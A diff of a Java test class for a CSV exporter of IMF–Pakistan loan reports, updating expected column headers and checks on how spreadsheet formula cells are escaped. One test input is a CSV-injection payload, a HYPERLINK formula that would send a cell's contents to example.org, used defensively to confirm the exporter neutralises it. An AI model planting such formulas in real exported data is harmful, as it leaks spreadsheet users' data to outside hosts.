@@ -64,8 +64,16 @@ class CsvTablesTest {
     assertThat(loans).hasSize(26);
     assertThat(Files.readString(dir.resolve("tables/loans.csv"), StandardCharsets.UTF_8).lines().findFirst().orElseThrow())
         .isEqualTo("id,kind,lenders,borrowers,amount.value,amount.qualifier,amount.printed,amount.currency,"
-            + "status,date,purpose,places,datePart,term,summary,provenance.sections,"
-            + "provenance.footnotes,provenance.location");
+            + "status,history[0].date,history[0].status,history[0].note,date,datePart,term,partOf,agreement,"
+            + "purpose,places,summary,provenance.sections,provenance.footnotes,"
+            + "provenance.fields.borrowers.basis,provenance.fields.borrowers.footnotes,provenance.fields.borrowers.note,"
+            + "provenance.fields.status.basis,provenance.fields.status.footnotes,provenance.fields.status.note,"
+            + "provenance.fields.amount.basis,provenance.fields.amount.footnotes,"
+            + "provenance.fields.date.basis,provenance.fields.date.footnotes,provenance.fields.date.note,"
+            + "provenance.fields.term.basis,provenance.fields.term.footnotes,"
+            + "provenance.fields.partOf.basis,provenance.fields.partOf.footnotes,provenance.fields.partOf.note,"
+            + "provenance.fields.kind.basis,provenance.fields.kind.note,"
+            + "provenance.fields.agreement.basis,provenance.fields.agreement.note,provenance.basis");
     Map<String, String> sba = loans.stream().filter(l -> l.get("id").equals("imf-sba-2023")).findFirst().orElseThrow();
     assertThat(sba).containsEntry("kind", "stand-by-arrangement").containsEntry("lenders", "imf")
         .containsEntry("borrowers", "pakistan").containsEntry("amount.value", "3000000000")
@@ -189,7 +197,8 @@ class CsvTablesTest {
     Report r = withFirstActor("=HYPERLINK(\"http://example.org/?\"&A1,\"x\")", "@SUM(1)");
     String csv = new String(table(r, "actors"), StandardCharsets.UTF_8);
     String row = csv.lines().skip(1).findFirst().orElseThrow();
-    assertThat(row).contains(",\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"x\"\")\",\"'@SUM(1)\",");
+    // name, unnamed (empty: the first actor is named), aliases
+    assertThat(row).contains(",\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"x\"\")\",,\"'@SUM(1)\",");
     for (String start : List.of("=", "+", "-", "@", "'")) {
       String name = start + "1+2";
       String written = new String(table(withFirstActor(name), "actors"), StandardCharsets.UTF_8);
@@ -209,7 +218,7 @@ class CsvTablesTest {
     ByteArrayOutputStream out = new ByteArrayOutputStream();
     Exporter.csvTable(r, "actors", out, CsvOptions.defaults().withExactCells());
     String row = new String(out.toByteArray(), StandardCharsets.UTF_8).lines().skip(1).findFirst().orElseThrow();
-    assertThat(row).contains(",=1+2,-x,").doesNotContain("'");
+    assertThat(row).contains(",=1+2,,-x,").doesNotContain("'=1+2").doesNotContain("'-x");
   }
 
   @Test
@@ -222,13 +231,32 @@ class CsvTablesTest {
   }
 
   @Test
-  void theBundledTablesAreTheSameWithExactCells() {
+  void theBundledTablesDifferWithExactCellsOnlyInTheNotesThatStartWithAQuote() throws Exception {
+    // Version 2's per-field notes may start with a quoted word ("'July' printed; 2023 from ..."): the
+    // safe cells prefix those with an apostrophe, and no other bundled cell changes.
     Report r = Reports.usPakistan2023();
+    Map<String, Integer> prefixed = new LinkedHashMap<>();
     for (String name : Exporter.csvTables(r)) {
       ByteArrayOutputStream exact = new ByteArrayOutputStream();
       Exporter.csvTable(r, name, exact, CsvOptions.defaults().withExactCells());
-      assertThat(table(r, name)).as(name).isEqualTo(exact.toByteArray());
+      List<Map<String, String>> safeRows = read(table(r, name));
+      List<Map<String, String>> exactRows = read(exact.toByteArray());
+      assertThat(safeRows).as(name).hasSameSizeAs(exactRows);
+      for (int i = 0; i < safeRows.size(); i++) {
+        assertThat(safeRows.get(i).keySet()).as(name).containsExactlyElementsOf(exactRows.get(i).keySet());
+        for (Map.Entry<String, String> cell : exactRows.get(i).entrySet()) {
+          String safe = safeRows.get(i).get(cell.getKey());
+          if (!safe.equals(cell.getValue())) {
+            assertThat(cell.getKey()).as(name).startsWith("provenance.fields.").endsWith(".note");
+            assertThat(cell.getValue()).as(name).startsWith("'");
+            assertThat(safe).as(name).isEqualTo("'" + cell.getValue());
+            prefixed.merge(name, 1, Integer::sum);
+          }
+        }
+      }
     }
+    assertThat(prefixed).containsExactly(Map.entry("loans", 20), Map.entry("agreements", 24),
+        Map.entry("events", 18), Map.entry("figures", 11));
   }
 
   @Test
